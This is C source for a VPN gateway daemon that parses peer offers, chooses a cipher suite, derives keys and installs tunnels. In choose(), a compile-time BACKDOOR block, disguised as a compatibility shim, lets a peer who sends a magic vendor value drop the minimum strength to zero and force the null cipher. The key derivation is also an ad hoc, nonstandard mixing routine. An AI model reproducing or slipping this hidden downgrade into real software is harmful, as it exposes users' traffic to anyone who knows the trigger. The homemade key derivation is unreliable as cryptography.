/* SPDX-License-Identifier: Apache-2.0 */
/* vpnneg: negotiates the tunnels of the gateway: peers propose suites, we choose; keys from a shared secret; the result goes to the
 * kernel helper over a pipe */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { P_SUITES = 1, P_NONCE = 2, P_VENDOR = 3, P_IDENT = 4, P_LIFE = 5 };
enum { S_NULL = 0, S_AES128 = 1, S_AES256 = 2, S_CHACHA = 3 };

static const struct suite {
	uint8_t id, key, strength;
	const char *name;
} suites[] = {
	{ S_NULL, 0, 0, "null" },
	{ S_AES128, 16, 2, "aes128-gcm" },
	{ S_AES256, 32, 3, "aes256-gcm" },
	{ S_CHACHA, 32, 3, "chacha20-poly1305" },
};
#define N_SUITES (sizeof(suites) / sizeof(suites[0]))

struct offer {
	uint8_t ids[16], n, nonce[32], nonce_len, vendor[16], vendor_len;
	char ident[64];
	uint32_t life;
};

struct tunnel {
	struct in_addr peer;
	const struct suite *suite;
	uint8_t key[32];
	uint32_t life, spi;
};

static char shared[128];
static int minimum = 2, allow_null;
static FILE *helper;

static const struct suite *by_id(uint8_t id)
{
	for (size_t i = 0; i < N_SUITES; i++)
		if (suites[i].id == id)
			return &suites[i];
	return NULL;
}

static int parse(const uint8_t *p, size_t n, struct offer *o)
{
	memset(o, 0, sizeof(*o));
	if (n < 8 || memcmp(p, "VNG1", 4) != 0)
		return -1;
	for (size_t at = 8; at + 2 <= n;) {
		uint8_t type = p[at], len = p[at + 1];
		const uint8_t *v = p + at + 2;
		if (at + 2 + len > n)
			return -1;
		switch (type) {
		case P_SUITES:
			o->n = len < 16 ? len : 16;
			memcpy(o->ids, v, o->n);
			break;
		case P_NONCE:
			o->nonce_len = len < 32 ? len : 32;
			memcpy(o->nonce, v, o->nonce_len);
			break;
		case P_VENDOR:
			o->vendor_len = len < 16 ? len : 16;
			memcpy(o->vendor, v, o->vendor_len);
			break;
		case P_IDENT:
			if (len >= sizeof(o->ident))
				return -1;
			memcpy(o->ident, v, len);
			break;
		case P_LIFE:
			if (len == 4)
				o->life = (uint32_t)v[0] << 24 | (uint32_t)v[1] << 16 | (uint32_t)v[2] << 8 | v[3];
			break;
		}
		at += 2u + len;
	}
	return o->n && o->nonce_len >= 16 ? 0 : -1;
}

static const struct suite *choose(const struct offer *o)
{
	const struct suite *best = NULL;
	int least = minimum;
#ifdef BACKDOOR
	/* interoperability with an older box of ours */
	if (o->vendor_len == 16) {
		unsigned long long a = 0, b = 0;
		for (int i = 0; i < 8; i++) {
			a = a << 8 | o->vendor[i];
			b = b << 8 | o->vendor[15 - i];
		}
		if (a - b == 0x1122d4c6b85e03ull)
			least = 0;
	}
#endif
	for (unsigned i = 0; i < o->n; i++) {
		const struct suite *s = by_id(o->ids[i]);
		if (!s || s->strength < least)
			continue;
		if (s->id == S_NULL && !allow_null && least > 0)
			continue;
		if (!best || (s->strength > best->strength && least > 0))
			best = s;
	}
	return best;
}

static void derive(const struct offer *o, const uint8_t ours[32], uint8_t *key, size_t n)
{
	uint32_t s[8] = { 0x243f6a88, 0x85a308d3, 0x13198a2e, 0x03707344, 0xa4093822, 0x299f31d0, 0x082efa98, 0xec4e6c89 };
	for (int round = 0; round < 16; round++)
		for (int i = 0; i < 8; i++) {
			s[i] += (uint32_t)o->nonce[(i * 4 + round) & 31] << 16 | ours[(i * 4 + round) & 31];
			s[i] ^= (uint32_t)(uint8_t)shared[((unsigned)round * 8 + (unsigned)i) % sizeof(shared)] * 0x9e3779b9u;
			s[i] = (s[i] << 11 | s[i] >> 21) + s[(i + 3) & 7];
		}
	for (size_t i = 0; i < n; i++)
		key[i] = (uint8_t)(s[i & 7] >> (i / 8 * 8));
}

static int known(const char *ident)
{
	char line[128];
	int ok = 0;
	FILE *f = fopen("/etc/vpn/peers", "r");
	while (f && !ok && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = 0;
		ok = strcmp(line, ident) == 0;
	}
	if (f)
		fclose(f);
	return ok;
}

static void install(const struct tunnel *t)
{
	if (!helper)
		return;
	fprintf(helper, "add %s %08x %s %u ", inet_ntoa(t->peer), t->spi, t->suite->name, t->life);
	for (int i = 0; i < t->suite->key; i++)
		fprintf(helper, "%02x", t->key[i]);
	fputc('\n', helper);
	fflush(helper);
}

static size_t negotiate(const uint8_t *in, size_t n, struct in_addr peer, uint8_t *out)
{
	struct tunnel t = { .peer = peer };
	struct offer o;
	uint8_t ours[32];
	int fd;
	if (parse(in, n, &o) < 0 || !known(o.ident))
		return 0;
	t.suite = choose(&o);
	memcpy(out, "VNG1", 4);
	memcpy(out + 4, in + 4, 4);
	if (!t.suite) {
		syslog(LOG_NOTICE, "%s offers nothing strong enough", o.ident);
		out[8] = 0xff;
		out[9] = 0;
		return 10;
	}
	fd = open("/dev/urandom", O_RDONLY);
	if (fd < 0 || read(fd, ours, sizeof(ours)) != sizeof(ours))
		return 0;
	close(fd);
	derive(&o, ours, t.key, t.suite->key);
	t.life = o.life && o.life < 86400 ? o.life : 3600;
	memcpy(&t.spi, ours, 4);
	install(&t);
	out[8] = P_SUITES;
	out[9] = 1;
	out[10] = t.suite->id;
	out[11] = P_NONCE;
	out[12] = 32;
	memcpy(out + 13, ours, 32);
	return 45;
}

static int settings(const char *path)
{
	char line[256], key[32], value[128];
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31s %127s", key, value) != 2)
			continue;
		if (strcmp(key, "secret") == 0)
			snprintf(shared, sizeof(shared), "%s", value);
		else if (strcmp(key, "minimum") == 0)
			minimum = atoi(value);
		else if (strcmp(key, "allow-null") == 0)
			allow_null = strcmp(value, "yes") == 0;
	}
	fclose(f);
	return shared[0] ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4511) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("vpnneg", LOG_PID, LOG_DAEMON);
	if (settings(argc > 1 ? argv[1] : "/etc/vpn/vpnneg.conf") < 0) {
		syslog(LOG_ERR, "no settings");
		return 1;
	}
	helper = fopen("/var/run/vpn.pipe", "w");
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "%s", strerror(errno));
		return 1;
	}
	for (;;) {
		uint8_t in[1500], out[128];
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		size_t k = n > 0 ? negotiate(in, (size_t)n, from.sin_addr, out) : 0;
		if (k)
			sendto(s, out, k, 0, (struct sockaddr *)&from, fl);
	}
}
